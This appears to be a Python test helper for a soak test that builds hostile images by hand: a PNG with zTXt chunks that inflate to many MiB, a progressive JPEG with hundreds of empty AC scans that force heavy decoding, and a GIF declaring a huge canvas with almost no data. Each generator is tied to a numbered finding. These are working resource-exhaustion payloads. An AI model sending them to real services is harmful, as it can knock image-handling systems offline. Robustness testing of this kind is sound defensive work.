"""Hostile pictures, made byte by byte (no imaging library): the soak's attack payloads.

png_text_bomb: a 1x1 PNG whose zTXt chunks inflate to `mib` MiB each (finding 3).
jpeg_scan_bomb: a WxH progressive greyscale JPEG whose image data is empty (every coefficient
zero) but spread over `scans` AC scans, each of which a decoder must run over every block
(finding 4): about 128 KiB for 8192x8192, whatever the scan count.
tiny_gif: a GIF that declares a w x h canvas with almost no data (finding 9)."""
import struct
import zlib


def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_text_bomb(chunks=8, mib=4):
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * (mib << 20), 9)
    out = b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr)
    for i in range(chunks):
        out += _png_chunk(b"zTXt", b"Comment%d\0\0" % i + body)
    out += _png_chunk(b"IDAT", zlib.compress(b"\0\0\0\0"))
    return out + _png_chunk(b"IEND", b"")


class _Bits:
    def __init__(self):
        self.out, self.acc, self.n = bytearray(), 0, 0

    def put(self, value, bits):
        for i in range(bits - 1, -1, -1):
            self.acc = (self.acc << 1) | ((value >> i) & 1)
            self.n += 1
            if self.n == 8:
                self.out.append(self.acc)
                if self.acc == 0xFF:
                    self.out.append(0)  # byte stuffing
                self.acc, self.n = 0, 0

    def flush(self):
        if self.n:
            self.put((1 << (8 - self.n)) - 1, 8 - self.n)  # pad with 1 bits
        return bytes(self.out)


def _seg(marker, data):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data


def jpeg_scan_bomb(w=8192, h=8192, scans=999):
    blocks = ((w + 7) // 8) * ((h + 7) // 8)
    out = b"\xff\xd8"
    out += _seg(0xDB, b"\x00" + b"\x01" * 64)                         # DQT: all ones
    out += _seg(0xC2, struct.pack(">BHHB", 8, h, w, 1) + b"\x01\x11\x00")  # SOF2, 1 component
    one_code = lambda cls_id, sym: bytes([cls_id]) + b"\x01" + b"\x00" * 15 + bytes([sym])
    out += _seg(0xC4, one_code(0x00, 0x00))  # DC table 0: "0" = difference category 0
    out += _seg(0xC4, one_code(0x10, 0xE0))  # AC table 0: "0" = an end-of-band run of 2^14+
    dc = _Bits()
    for _ in range(blocks):
        dc.put(0, 1)
    out += _seg(0xDA, b"\x01\x01\x00\x00\x00\x00") + dc.flush()     # DC first scan
    # End-of-band runs of 16384..32767 blocks (symbol 0xE0 and 14 extra bits) cover the
    # blocks in n nearly equal runs; needs at least 16384 blocks (1024x1024 and up).
    if blocks < 16384:
        raise ValueError("jpeg_scan_bomb: needs at least 16384 8x8 blocks")
    n = -(-blocks // 32767)
    ac = _Bits()
    for i in range(n):
        run = blocks // n + (1 if i < blocks % n else 0)
        ac.put(0, 1)
        ac.put(run - 16384, 14)
    ac_data = ac.flush()
    for _ in range(scans):
        out += _seg(0xDA, b"\x01\x01\x00\x01\x3f\x00") + ac_data      # AC scan 1..63, Al 0
    return out + b"\xff\xd9"


def tiny_gif(w=4096, h=4096):
    head = b"GIF89a" + struct.pack("<HHBBB", w, h, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    img = b"\x2c" + struct.pack("<HHHHB", 0, 0, w, h, 0) + b"\x02\x02\x44\x01\x00"
    return head + img + b"\x3b"
